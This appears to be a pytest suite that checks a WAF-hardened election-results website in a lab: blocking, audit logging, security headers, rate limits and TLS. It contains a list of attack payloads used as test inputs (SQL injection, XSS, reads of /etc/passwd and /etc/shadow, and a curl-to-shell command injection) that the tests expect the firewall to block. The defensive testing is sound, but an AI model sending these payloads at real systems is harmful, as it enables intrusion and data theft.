"""results_website: real HTTP(S) against the hardened results site of the web tier.

Every request goes through the lab's forwarded loopback port to the VM's nginx,
through ModSecurity + OWASP CRS. Nothing here is mocked: a 403 is the WAF's, a
429 nginx's limiter's, and the audit log lines are read back from the host.
"""

from __future__ import annotations

import http.client
import json
import ssl
import threading
import uuid
from pathlib import Path
from typing import Any

import pytest

from tests.infra.web_client import Reply, Site, site_of

REPO = Path(__file__).resolve().parents[2]
SITE_DIR = REPO / "roles" / "results_website" / "files" / "site"
AUDIT_LOG = "/var/log/modsecurity/audit.log"
SECURITY_HEADERS = ("x-content-type-options", "x-frame-options", "content-security-policy",
                    "referrer-policy", "strict-transport-security", "x-request-id")
# The query strings the site's own pages use (links, cache busting, open data).
SITE_QUERIES = ("", "?contest=president&sort=votes&page=1", "?v=1", "?contest=president&format=json")

# (family, path, extra headers): classic attacks and the CRS rule file that must catch them.
ATTACKS = [
    ("sqli", "/department/d01.html?contest=president%27%20UNION%20SELECT%20username,password%20FROM%20users--", {}),
    ("sqli", "/?id=1%27%20OR%20%271%27%3D%271", {}),
    ("xss", "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", {}),
    ("xss", "/index.html?name=%3Cimg%20src=x%20onerror=alert(1)%3E", {}),
    ("lfi", "/?file=../../../../etc/passwd", {}),
    ("lfi", "/index.html?f=%2Fetc%2Fshadow", {}),
    ("rce", "/?host=127.0.0.1%3Bcat%20/etc/passwd", {}),
    ("rce", "/?x=%24(curl%20http://203.0.113.9/x.sh%7Csh)", {}),
    ("scanner", "/", {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
    ("scanner", "/", {"User-Agent": "Nikto/2.5.0"}),
]
RULE_PREFIX = {"sqli": "942", "xss": "941", "lfi": "930", "rce": "932", "scanner": "913"}
# Most a request refused by the rate limit may cost nginx, as a share of a request
# the WAF inspects (EF-WEB-17; measured in the lab: see the role README).
WAF_SHARE_OF_A_429 = 0.35


@pytest.fixture
def site(host: Any) -> Site:
    return site_of(host)


def _client() -> str:
    """A fresh documentation address per test, so one test's requests never count
    against another's rate limit."""
    return f"198.51.100.{uuid.uuid4().int % 200 + 20}"


def _fixture_files() -> list[Path]:
    return sorted(p for p in SITE_DIR.rglob("*") if p.is_file())


@pytest.mark.control("EF-WEB-1")
def test_fixture_pages_exist() -> None:
    assert len(_fixture_files()) >= 10


@pytest.mark.control("EF-WEB-1")
def test_every_page_and_asset_is_served_with_the_sites_query_strings(site: Site) -> None:
    # one visitor per page (4 requests each): the per-client rate limit is not under test here
    bad = []
    for i, path in enumerate(_fixture_files()):
        url = "/" + str(path.relative_to(SITE_DIR))
        client = f"198.51.100.{100 + i}"
        for query in SITE_QUERIES:
            r = site.request(url + query, client=client)
            if r.status != 200 or r.body != path.read_bytes():
                bad.append(f"{url}{query}: {r.status}")
    for url in ("/",):
        r = site.request(url, client=_client())
        if r.status != 200:
            bad.append(f"{url}: {r.status}")
    assert not bad, f"the WAF or nginx refused the site's own traffic: {bad}"


@pytest.mark.control("EF-WEB-2")
def test_pages_are_cacheable(site: Site) -> None:
    r = site.request("/index.html", client=_client())
    assert r.status == 200
    assert "public" in (r.header("cache-control") or "") and "max-age=" in (r.header("cache-control") or "")
    assert r.header("last-modified") and r.header("etag")


def _audit_entries(host: Any) -> list[dict[str, Any]]:
    out = host.run(f"sudo cat {AUDIT_LOG}")
    assert out.rc == 0, out.stderr
    entries = []
    for line in out.stdout.splitlines():
        line = line.strip()
        if line.startswith("{"):
            entries.append(json.loads(line))
    return entries


@pytest.mark.control("EF-WEB-3")
def test_attacks_are_blocked_and_logged_with_their_rule_id(host: Any, site: Site) -> None:
    client = _client()
    sent = []
    for family, path, headers in ATTACKS:
        r = site.request(path, client=client, headers=headers)
        assert r.status == 403, f"{family} {path} {headers}: {r.status} (not blocked)"
        sent.append((family, path, r.header("x-request-id")))
    by_id = {e["transaction"]["unique_id"]: e for e in _audit_entries(host)}
    for family, path, request_id in sent:
        assert request_id in by_id, f"{family} {path}: no audit log entry for request {request_id}"
        rules = {str(m["details"]["ruleId"]) for m in by_id[request_id]["transaction"].get("messages", [])}
        assert any(rule.startswith(RULE_PREFIX[family]) for rule in rules), f"{family} {path}: rules {rules}"
        assert "949110" in rules, f"{family} {path}: not blocked by the anomaly score ({rules})"


@pytest.mark.control("EF-WEB-4")
@pytest.mark.writes
def test_audit_log_is_private_and_survives_its_rotation(host: Any, site: Site) -> None:
    """The WAF's records land in the file the shippers read, before and after a rotation.

    libmodsecurity does not reopen its audit log on nginx's USR1: under a rename
    rotation (Debian's nginx logrotate) it kept writing into the rotated file. The
    role rotates it with copytruncate; forced here, then a blocked request must be
    in the live file, under the same inode, and the live file still 0640 root:adm.
    """
    # one record first: logrotate leaves an empty log alone (notifempty)
    assert site.request("/?id=1%27%20OR%20%271%27%3D%271", client=_client()).status == 403
    with host.sudo():
        log, directory = host.file(AUDIT_LOG), host.file(str(Path(AUDIT_LOG).parent))
        assert (log.user, log.group, log.mode) == ("root", "adm", 0o640)
        assert (directory.user, directory.group, directory.mode) == ("root", "adm", 0o750)
        inode = host.check_output(f"stat -c %i {AUDIT_LOG}")
        rotated = host.run("logrotate -f /etc/logrotate.d/results-website-modsecurity")
        assert rotated.rc == 0, rotated.stderr
        assert host.file(AUDIT_LOG + ".1").exists, "the forced rotation made no generation"
    r = site.request("/?q=%3Cscript%3Ealert(1)%3C/script%3E", client=_client())
    assert r.status == 403
    request_id = r.header("x-request-id")
    ids = {e["transaction"]["unique_id"] for e in _audit_entries(host)}
    assert request_id in ids, "after the rotation the WAF's record is not in the live audit log"
    with host.sudo():
        assert host.check_output(f"stat -c %i {AUDIT_LOG}") == inode
        log = host.file(AUDIT_LOG)
        assert (log.user, log.group, log.mode) == ("root", "adm", 0o640)


@pytest.mark.control("EF-WEB-5")
def test_oversized_requests_are_refused(site: Site) -> None:
    client = _client()
    body = site.request("/index.html", client=client, method="POST", body=b"a=" + b"x" * 64 * 1024,
                        headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert body.status == 413
    uri = site.request("/index.html?q=" + "a" * 12000, client=client)
    assert uri.status == 414
    header = site.request("/index.html", client=client, headers={"X-Filler": "b" * 16000})
    assert header.status == 400
    assert site.request("/index.html", client=client, method="DELETE").status in (403, 405)


def _has_security_headers(r: Reply) -> list[str]:
    return [h for h in SECURITY_HEADERS if not r.header(h)]


@pytest.mark.control("EF-WEB-6")
def test_security_headers_on_every_status(site: Site) -> None:
    client = _client()
    replies = {
        "200": site.request("/index.html", client=client),
        "404": site.request("/no-such-page.html", client=client),
        "403": site.request("/?q=%3Cscript%3Ealert(1)%3C/script%3E", client=client),
        "413": site.request("/", client=client, method="POST", body=b"x" * 64 * 1024),
    }
    assert [r.status for r in replies.values()] == [200, 404, 403, 413]
    missing = {k: _has_security_headers(r) for k, r in replies.items() if _has_security_headers(r)}
    assert not missing, f"security headers missing: {missing}"
    assert replies["404"].header("cache-control") == "no-store"
    assert "frame-ancestors 'none'" in (replies["200"].header("content-security-policy") or "")


@pytest.mark.control("EF-WEB-7")
def test_http_redirects_to_https_with_headers(site: Site) -> None:
    c = http.client.HTTPConnection("127.0.0.1", site.http_port, timeout=20)
    c.request("GET", "/index.html?contest=president", headers={"Host": "results-tx", "X-Forwarded-For": _client()})
    r = c.getresponse()
    r.read()
    c.close()
    assert r.status == 301
    assert r.getheader("Location") == "https://results-tx/index.html?contest=president"
    assert r.getheader("X-Content-Type-Options") == "nosniff"


@pytest.mark.control("EF-WEB-8")
@pytest.mark.parametrize("version", [ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1])
def test_old_tls_versions_are_refused(site: Site, version: ssl.TLSVersion) -> None:
    ctx = site.context(minimum=version, maximum=version)
    c = http.client.HTTPSConnection("127.0.0.1", site.port, timeout=20, context=ctx)
    with pytest.raises(ssl.SSLError):
        c.request("GET", "/", headers={"Host": "results-tx"})
        c.getresponse()
    c.close()


@pytest.mark.control("EF-WEB-8")
@pytest.mark.parametrize("version", [ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3])
def test_tls_12_and_13_work(site: Site, version: ssl.TLSVersion) -> None:
    """The positive control of the test above: the same client gets in with 1.2/1.3."""
    ctx = site.context(minimum=version, maximum=version)
    c = http.client.HTTPSConnection("127.0.0.1", site.port, timeout=20, context=ctx)
    c.request("GET", "/robots.txt", headers={"Host": "results-tx", "X-Forwarded-For": _client(),
                                               "User-Agent": "Mozilla/5.0", "Accept": "*/*"})
    r = c.getresponse()
    r.read()
    assert r.status == 200
    assert c.sock is not None and c.sock.version() == {ssl.TLSVersion.TLSv1_2: "TLSv1.2",
                                                        ssl.TLSVersion.TLSv1_3: "TLSv1.3"}[version]
    c.close()


@pytest.mark.control("EF-WEB-9")
def test_version_is_not_leaked(site: Site) -> None:
    client = _client()
    for r in (site.request("/index.html", client=client), site.request("/nope", client=client),
              site.request("/?q=%3Cscript%3E", client=client)):
        assert r.header("server") == "nginx", r.header("server")
        assert b"nginx/" not in r.body
        assert r.header("x-powered-by") is None


def _parallel_burst(site: Site, client: str, threads: int, each: int) -> list[int]:
    statuses: list[int] = []

    def run() -> None:
        conn = site.connection()
        for _ in range(each):
            statuses.append(site.request("/robots.txt", client=client, conn=conn).status)
        conn.close()

    workers = [threading.Thread(target=run) for _ in range(threads)]
    for w in workers:
        w.start()
    for w in workers:
        w.join()
    return statuses


@pytest.mark.control("EF-WEB-10")
def test_a_flooding_client_gets_429_while_an_allowlisted_one_does_not(site: Site) -> None:
    """Normal mode (lab: 5 r/s, burst 20 per client): 4 keep-alive connections
    sending 60 requests each, back to back, exceed it; the same from an allowlisted
    network is never limited."""
    statuses = _parallel_burst(site, "198.51.100.250", 4, 60)
    assert statuses.count(429) > 0 and statuses.count(200) >= 20, sorted(set(statuses))
    allowed = _parallel_burst(site, "192.0.2.10", 4, 60)
    assert set(allowed) == {200}, sorted(set(allowed))


def _nginx_cpu_us(host: Any) -> int:
    """CPU time nginx's cgroup has used so far (master and workers), in microseconds."""
    cgroup = host.run("systemctl show -P ControlGroup nginx.service").stdout.strip()
    stat = host.file(f"/sys/fs/cgroup{cgroup}/cpu.stat").content_string
    return int(stat.split("usage_usec", 1)[1].split()[0])


@pytest.mark.control("EF-WEB-17")
def test_a_request_over_the_limit_is_refused_before_the_waf_inspects_it(host: Any, site: Site) -> None:
    """What a flood costs the web server: nginx's own CPU (its cgroup) per request
    answered 429 against per request served through the CRS. With the limits
    answered after ModSecurity's first phase, a 429 cost most of a WAF-inspected
    request; answered first, a small part of it."""
    before = _nginx_cpu_us(host)
    served = _parallel_burst(site, "192.0.2.11", 4, 30)  # allowlisted: every request through the WAF
    waf_us = (_nginx_cpu_us(host) - before) / len(served)
    assert set(served) == {200}, sorted(set(served))
    before = _nginx_cpu_us(host)
    flood = _parallel_burst(site, "198.51.100.251", 4, 60)
    flood_us = _nginx_cpu_us(host) - before
    refused, passed = flood.count(429), flood.count(200)
    assert refused >= 120 and refused + passed == len(flood), sorted(set(flood))
    per_429 = max(flood_us - passed * waf_us, 0) / refused
    print(f"nginx CPU: {per_429:.0f} us per 429, {waf_us:.0f} us per WAF-served request")
    assert per_429 < WAF_SHARE_OF_A_429 * waf_us, (
        f"a 429 cost {per_429:.0f} us of nginx CPU, a WAF-served request {waf_us:.0f} us")


@pytest.mark.control("EF-WEB-11")
def test_access_log_is_json_with_the_request_id(host: Any, site: Site) -> None:
    r = site.request("/results.json?contest=president&format=json", client=_client())
    request_id = r.header("x-request-id")
    log = host.run("sudo tail -n 400 /var/log/nginx/access.log").stdout.splitlines()
    entries = [json.loads(line) for line in log if line.startswith("{")]
    mine = [e for e in entries if e["request_id"] == request_id]
    assert mine and mine[0]["status"] == 200 and mine[0]["uri"].startswith("/results.json")
    assert mine[0]["mode"] in ("normal", "attack") and mine[0]["tls"] in ("TLSv1.2", "TLSv1.3")


@pytest.mark.control("EF-WEB-12")
def test_both_modes_are_static_files_and_the_selector_picks_one(host: Any) -> None:
    site_of(host)
    conf = "/etc/nginx/results-website"
    for name in ("mode-normal.conf", "mode-attack.conf", "modsecurity-normal.conf", "modsecurity-attack.conf"):
        assert host.file(f"{conf}/{name}").is_file
    selector = host.file(f"{conf}/active-mode.conf")
    assert selector.is_symlink and selector.linked_to in (f"{conf}/mode-normal.conf", f"{conf}/mode-attack.conf")
    assert "paranoia_level=1" in host.file(f"{conf}/modsecurity-normal.conf").content_string
    assert "paranoia_level=2" in host.file(f"{conf}/modsecurity-attack.conf").content_string
    assert host.run("sudo /usr/sbin/nginx -t -q").rc == 0
    assert host.service("nginx").is_running and host.service("nginx").is_enabled
    # who switched when: the log exists from the converge on, so the role's freeze profile
    # fragment can record it as growing (a switch appends; anything else is drift)
    with host.sudo():
        log = host.file("/var/lib/results-website/switch.log")
        assert log.is_file and (log.user, log.group, log.mode) == ("root", "root", 0o640)
